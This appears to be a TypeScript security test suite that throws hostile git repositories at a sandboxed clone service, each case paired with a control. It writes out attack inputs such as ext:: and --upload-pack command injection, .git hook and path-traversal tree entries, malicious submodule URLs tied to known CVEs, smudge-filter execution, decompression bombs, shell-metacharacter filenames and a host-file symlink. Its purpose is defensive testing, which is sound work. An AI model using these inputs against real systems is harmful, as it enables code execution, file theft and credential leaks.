import { randomBytes } from "node:crypto";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { isCityError } from "#server/kernel/errors.ts";
import { onHost } from "../arena.ts";
import type { Attempt } from "../attempt.ts";
import { hostileRepo, PackBuilder } from "../hostile-remote.ts";
import {
  attribute,
  badName,
  badObject,
  badUrl,
  deltaBomb,
  file,
  ignoreRefusal,
  modules,
  plainRepo,
  provision,
  treeBomb,
} from "./repository-makers.ts";

const MB = 1024 * 1024;

export const repositories: readonly Attempt[] = [
  badUrl("ext:: URL that runs a command", (_, mark) => `ext::touch ${mark}`, { short: true }),
  badUrl("file:// URL of the host", (arena) => `file://${plainRepo(arena)}`, { short: true }),
  badUrl("plain path of the host", (arena) => plainRepo(arena)),
  badUrl("git:// URL to a service of the host", (arena) => `git://127.0.0.1:${arena.host.tcpPort}/x`),
  badUrl("http:// URL to a service of the host", (arena) => `http://127.0.0.1:${arena.host.tcpPort}/x.git`),
  {
    name: "option in place of a URL (--upload-pack=…)",
    group: "repository",
    plainly: "git clone without --",
    reach: async (arena) => {
      const mark = join(arena.host.folder, `mark-${randomBytes(4).toString("hex")}`);
      await arena.sandbox({ source: { kind: "repo", url: `--upload-pack=touch ${mark};` } }).catch(ignoreRefusal);
      return existsSync(mark);
    },
    control: async (arena) => {
      const mark = join(arena.host.folder, `mark-${randomBytes(4).toString("hex")}`);
      onHost("git", ["clone", "-q", `--upload-pack=touch ${mark};`, plainRepo(arena), `${mark}-clone`]);
      return existsSync(mark);
    },
  },
  {
    name: "option in place of a ref",
    group: "repository",
    plainly: "git fetch without a check of the ref",
    reach: async (arena) => {
      const mark = join(arena.host.folder, `mark-${randomBytes(4).toString("hex")}`);
      const url = `${arena.remoteUrl}x.git`;
      await arena.sandbox({ source: { kind: "repo", url, ref: `--upload-pack=touch ${mark};` } }).catch(ignoreRefusal);
      return existsSync(mark) || arena.remote.requests.some(({ path }) => path.includes("x.git"));
    },
    control: async (arena) => {
      const mark = join(arena.host.folder, `mark-${randomBytes(4).toString("hex")}`);
      onHost("git", ["-C", plainRepo(arena), "fetch", `--upload-pack=touch ${mark};`, "."]);
      return existsSync(mark);
    },
  },
  {
    name: "submodule that is fetched along",
    group: "repository",
    plainly: "git clone --recurse-submodules",
    reach: async (arena) => {
      const builder = new PackBuilder();
      const tree = builder.tree([
        file(builder, ".gitmodules", `[submodule "s"]\n\tpath = s\n\turl = ${arena.remoteUrl}inner.git\n`),
        { mode: "160000", name: "s", oid: "1".repeat(40) },
      ]);
      const sandbox = await provision(arena, { commit: builder.commit(tree), pack: builder.pack() });
      const content = await sandbox?.exec("ls s | wc -l");
      return content?.stdout.trim() !== "0" || arena.remote.requests.some(({ path }) => path.includes("inner.git"));
    },
    control: async (arena) => {
      const inner = plainRepo(arena);
      const outer = join(arena.host.folder, `outer-${randomBytes(4).toString("hex")}`);
      const allow = ["-c", "protocol.file.allow=always", "-c", "user.name=a", "-c", "user.email=a@b"];
      onHost("git", ["init", "-q", outer]);
      onHost("git", ["-C", outer, ...allow, "submodule", "add", inner, "s"]);
      onHost("git", ["-C", outer, ...allow, "commit", "-qm", "x"]);
      onHost("git", [...allow, "clone", "-q", "--recurse-submodules", outer, `${outer}-clone`]);
      return existsSync(join(`${outer}-clone`, "s", "a.txt"));
    },
  },
  badName(
    "hook inside a tree entry .git",
    (pack) => [
      {
        mode: "40000",
        name: ".git",
        oid: pack.tree([{ mode: "40000", name: "hooks", oid: pack.tree([file(pack, "owned")]) }]),
      },
    ],
    ".git/hooks/owned",
    { short: true },
  ),
  badName(
    "the same as .GIT (case-insensitive systems)",
    (pack) => [{ mode: "40000", name: ".GIT", oid: pack.tree([file(pack, "owned")]) }],
    ".GIT/owned",
  ),
  badName(
    "the same as git~1 (short names of Windows)",
    (pack) => [{ mode: "40000", name: "git~1", oid: pack.tree([file(pack, "owned")]) }],
    "git~1/owned",
  ),
  badName(
    "the same with an invisible letter (HFS+)",
    (pack) => [{ mode: "40000", name: ".g\u200cit", oid: pack.tree([file(pack, "owned")]) }],
    ".g\u200cit/owned",
  ),
  badName(
    "tree entry ..",
    (pack) => [
      {
        mode: "40000",
        name: "..",
        oid: pack.tree([{ mode: "40000", name: "..", oid: pack.tree([file(pack, "owned")]) }]),
      },
    ],
    "../../owned",
  ),
  badName("tree entry with slashes", (pack) => [file(pack, "../../owned")], "../../owned"),
  badName(
    "file behind a link of the same name",
    (pack, outside) => [
      { mode: "120000", name: "a", oid: pack.blob(outside) },
      { mode: "40000", name: "a", oid: pack.tree([file(pack, "owned")]) },
    ],
    "a/owned",
    { short: true },
  ),
  badObject("two entries of one name", (pack) => [file(pack, "a", "1"), file(pack, "a", "2")]),
  badObject("entries out of order", (pack) => [file(pack, "b"), file(pack, "a")]),
  badObject(
    "submodule whose name leads out (CVE-2018-11235)",
    modules('[submodule "../../x"]\n\tpath = s\n\turl = https://github.com/a/b\n'),
    { short: true },
  ),
  badObject(
    "submodule URL that is an option (CVE-2018-17456)",
    modules('[submodule "s"]\n\tpath = s\n\turl = -u./payload\n'),
  ),
  badObject(
    "submodule path that is an option",
    modules('[submodule "s"]\n\tpath = -x\n\turl = https://github.com/a/b\n'),
  ),
  badObject(
    "submodule URL with a newline (credential theft)",
    modules('[submodule "s"]\n\tpath = s\n\turl = https://a.example/%0ahost=github.com\n'),
  ),
  badName(
    ".gitmodules that is a link",
    (pack) => [{ mode: "120000", name: ".gitmodules", oid: pack.blob("real") }, file(pack, "real")],
    ".gitmodules",
  ),
  badObject("commit without author", (pack) => {
    const tree = pack.tree([file(pack, "a")]);
    return { commit: pack.add("commit", `tree ${tree}\ncommitter a <a@b> 1 +0000\n\nx\n`), pack: Buffer.alloc(0) };
  }),
  badObject("commit with a date that overflows", (pack) => {
    const tree = pack.tree([file(pack, "a")]);
    const person = "a <a@b> 99999999999999999999999 +0000";
    return {
      commit: pack.add("commit", `tree ${tree}\nauthor ${person}\ncommitter ${person}\n\nx\n`),
      pack: Buffer.alloc(0),
    };
  }),
  attribute("smudge filter", "* filter=x\n", ["filter.x.smudge=echo owned"]),
  attribute("LFS pointer that makes the host fetch", "* filter=lfs\n", ["filter.lfs.smudge=echo fetched"]),
  attribute("$Id$ expansion", "* ident\n", []),
  attribute("another encoding at checkout", "* working-tree-encoding=UTF-16\n", []),
  attribute("line ends rewritten at checkout", "* text eol=crlf\n", []),
  {
    name: "blob bomb (120 MB from 120 kB)",
    group: "repository",
    short: true,
    without: ["disk limit", "file-size limit"],
    reach: async (arena) => {
      const repo = hostileRepo((pack) => [{ mode: "100644", name: "zero", oid: pack.blob(Buffer.alloc(120 * MB)) }]);
      return (await provision(arena, repo, { memoryBytes: 1024 * MB })) !== null;
    },
  },
  {
    name: "delta bomb (100 MB from a few hundred bytes)",
    group: "repository",
    without: ["disk limit", "file-size limit"],
    reach: async (arena) => {
      const repo = deltaBomb(100);
      return (await provision(arena, repo, { memoryBytes: 1024 * MB })) !== null;
    },
  },
  {
    name: "tree bomb (10,000 files from ten objects)",
    group: "repository",
    without: ["file-count limit"],
    reach: async (arena) => (await provision(arena, treeBomb(4))) !== null,
  },
  {
    name: "names that a shell would run",
    group: "repository",
    plainly: "for f in …: sh -c",
    reach: async (arena) => {
      const repo = hostileRepo((pack) => [
        file(pack, "$(touch owned)"),
        file(pack, "-rf"),
        file(pack, "a;touch owned"),
        file(pack, "n\nl"),
      ]);
      const sandbox = await provision(arena, repo);
      if (sandbox === null) return false;
      await sandbox.listFiles("");
      await sandbox.readFile("$(touch owned)");
      await sandbox.writeFile("a;touch owned", "changed\n");
      await sandbox.diff();
      return (await sandbox.listFiles("")).some(({ name }) => name === "owned");
    },
    control: async (arena) => {
      const sandbox = await arena.sandbox();
      await sandbox.writeFile("$(touch owned)", "");
      await sandbox.exec('for f in *; do sh -c "cat $f"; done');
      return (await sandbox.listFiles("")).some(({ name }) => name === "owned");
    },
  },
  {
    name: "link to a file of the host",
    group: "repository",
    without: ["private root", "checks on the open file"],
    reach: async (arena) => {
      const repo = hostileRepo((pack) => [
        { mode: "120000", name: "link", oid: pack.blob(`/host${arena.host.flagFile}`) },
      ]);
      const sandbox = await provision(arena, repo);
      try {
        return (await sandbox?.readFile("link"))?.content.includes(arena.host.flag) === true;
      } catch (error) {
        if (isCityError(error)) return false;
        throw error;
      }
    },
  },
  {
    name: "the buyer's token, looked for everywhere inside",
    group: "repository",
    short: true,
    plainly: "git clone with the token in the URL",
    reach: async (arena) => {
      const token = `tok_${randomBytes(8).toString("hex")}`;
      const repo = hostileRepo((pack) => [file(pack, "a.txt")]);
      const sandbox = await provision(arena, repo, undefined, token);
      const sent = arena.remote.requests.some(({ authorization }) =>
        Buffer.from(authorization?.slice(6) ?? "", "base64")
          .toString()
          .endsWith(token),
      );
      if (!sent) throw new Error("The token never reached the remote.");
      const look = await sandbox?.exec(
        `grep -rs ${token} / --include='*' -l --exclude-dir=proc --exclude-dir=usr; env | grep ${token}`,
      );
      return look === undefined || look.stdout.trim() !== "";
    },
    control: async (arena) => {
      const into = join(arena.host.folder, `tok-${randomBytes(4).toString("hex")}`);
      onHost("git", ["init", "-q", into]);
      onHost("git", ["-C", into, "remote", "add", "origin", "https://x:tok_secret@github.com/a/b"]);
      return onHost("cat", [join(into, ".git", "config")]).includes("tok_secret");
    },
  },
];
